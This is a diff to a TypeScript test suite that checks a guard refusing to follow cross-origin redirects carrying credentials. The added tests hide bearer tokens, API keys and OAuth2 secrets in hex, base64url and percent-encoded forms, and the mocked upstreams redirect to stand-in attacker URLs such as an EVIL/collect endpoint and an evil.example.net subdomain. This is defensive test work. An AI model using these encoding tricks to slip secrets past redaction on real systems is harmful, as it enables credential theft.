@@ -18,9 +18,33 @@ const SECRETS = {
   header: "hdr-redirect-secret-2",
   cookie: "session=cookie-redirect-secret-3",
   query: "qry/redirect+secret=4",
-  accessToken: "at-redirect-secret-5",
+  accessToken: "at-redirect-secret-5?>~",
   clientSecret: "cs-redirect-secret-6",
 };
+
+const hex = (text: string) =>
+  Array.from(new TextEncoder().encode(text), (byte) => byte.toString(16).padStart(2, "0")).join("");
+const base64url = (text: string) => textToBase64(text).replaceAll("+", "-").replaceAll("/", "_");
+const lowerEscapes = (text: string) => text.replace(/%[0-9A-F]{2}/g, (escape) => escape.toLowerCase());
+
+/** What an OAuth2 tool of this file sends its token endpoint (RFC 6749's form-encoding changes nothing here). */
+const basicValue = textToBase64(`redirect-client:${SECRETS.clientSecret}`);
+
+/** The forms the Redactor covers beyond the raw text, the URL and form encodings, JSON and base64. */
+const OTHER_FORMS: [string, (secret: string) => string][] = [
+  ["hex", hex],
+  ["hex in upper case", (secret) => hex(secret).toUpperCase()],
+  ["base64 without padding", (secret) => textToBase64(secret).replace(/=+$/, "")],
+  ["base64url", base64url],
+  ["base64url without padding", (secret) => base64url(secret).replace(/=+$/, "")],
+  ["lower-case percent-encoding", (secret) => lowerEscapes(encodeURIComponent(secret))],
+  ["double percent-encoding", (secret) => encodeURIComponent(encodeURIComponent(secret))],
+  [
+    "double percent-encoding in lower case",
+    (secret) => lowerEscapes(encodeURIComponent(lowerEscapes(encodeURIComponent(secret)))),
+  ],
+  ["base64url inside a longer base64url text", (secret) => base64url(`user:${secret}`)],
+];
 
 /** Every form in which a secret could travel. */
 function encodings(secret: string): string[] {
@@ -30,6 +54,7 @@ function encodings(secret: string): string[] {
     formEncode(secret),
     JSON.stringify(secret).slice(1, -1),
     textToBase64(secret),
+    ...OTHER_FORMS.map(([, form]) => form(secret)),
   ];
 }
 
@@ -141,6 +166,60 @@ describe("credentials on redirects", () => {
     expect(run.body).toMatchObject({ code: "outbound_blocked", reason: "credential_in_redirect", redirect_hop: 1 });
     expect(upstream.calls).toHaveLength(1);
     expect(JSON.stringify(run.body)).not.toContain(SECRETS.bearer);
+  });
+
+  describe("a Location to another origin that carries a secret in another encoding is not followed", () => {
+    // Reserved characters, so that every URL encoding differs from the raw text, and base64 from base64url.
+    const TOKEN = "brr/Redirect+Enc=9~x&y??>>";
+
+    async function expectRefused(tool: Record<string, any>, path: string, leaked: string) {
+      const run = await execute(tool.id);
+      expect(run.status, JSON.stringify(run.body)).toBe(403);
+      expect(run.body).toMatchObject({ code: "outbound_blocked", reason: "credential_in_redirect", redirect_hop: 1 });
+      // Only the first request was sent: nothing reached the other origin (it has no handler either).
+      expect(upstream.calls.map((call) => call.url.pathname)).toEqual([path]);
+      const log = await waitForLog(run.body.execution_id);
+      expect(log).toMatchObject({ outcome: "outbound_blocked" });
+      for (const where of [JSON.stringify(run.body), JSON.stringify(log)]) expect(where).not.toContain(leaked);
+    }
+
+    it.each(OTHER_FORMS)("the bearer token as %s", async (_label, form) => {
+      const path = `/leak/${crypto.randomUUID()}`;
+      const tool = await createTool({
+        endpoint_url: `${API}${path}`,
+        auth_config: { type: "bearer_token", token: TOKEN },
+      });
+      upstream.on("GET", `${API}${path}`, () => redirect(`${EVIL}/collect?t=${form(TOKEN)}`));
+      await expectRefused(tool, path, form(TOKEN));
+    });
+
+    it.each([
+      ["the API key of the query, hex, under another name", "query", hex(SECRETS.query)],
+      ["the API key header, hex in upper case", "header", hex(SECRETS.header).toUpperCase()],
+      ["the OAuth2 access token, base64url", "oauth2", base64url(SECRETS.accessToken)],
+      ["the OAuth2 client secret, hex", "oauth2", hex(SECRETS.clientSecret)],
+      ["the OAuth2 Basic value, hex in upper case", "oauth2", hex(basicValue).toUpperCase()],
+    ] as const)("%s", async (_label, kind, leaked) => {
+      const path = `/leak/${kind}/${crypto.randomUUID()}`;
+      const tool = await toolWith(kind, path);
+      upstream.on("GET", `${API}${path}`, () => redirect(`${EVIL}/collect/${leaked}`));
+      await expectRefused(tool, path, leaked);
+    });
+
+    it("a secret in the host, which the URL parser turns to lower case", async () => {
+      const token = "Brr-Host-Secret-0";
+      const tool = await createTool({ endpoint_url: `${API}/host`, auth_config: { type: "bearer_token", token } });
+      upstream.on("GET", `${API}/host`, () => redirect(`https://${token}.evil.example.net/`));
+      await expectRefused(tool, "/host", token.toLowerCase());
+    });
+
+    it("a raw secret that the URL parser percent-encodes in part", async () => {
+      // The parser encodes the space and the quotes, not "/", "+" or "=": neither the raw nor the encoded form.
+      const token = 'brr spaced/+"q"=9';
+      const tool = await createTool({ endpoint_url: `${API}/parsed`, auth_config: { type: "bearer_token", token } });
+      upstream.on("GET", `${API}/parsed`, () => redirect(`${EVIL}/collect/${token}`));
+      await expectRefused(tool, "/parsed", "brr%20spaced");
+    });
   });
 
   it("does not give the credentials back when a chain returns to the original origin", async () => {
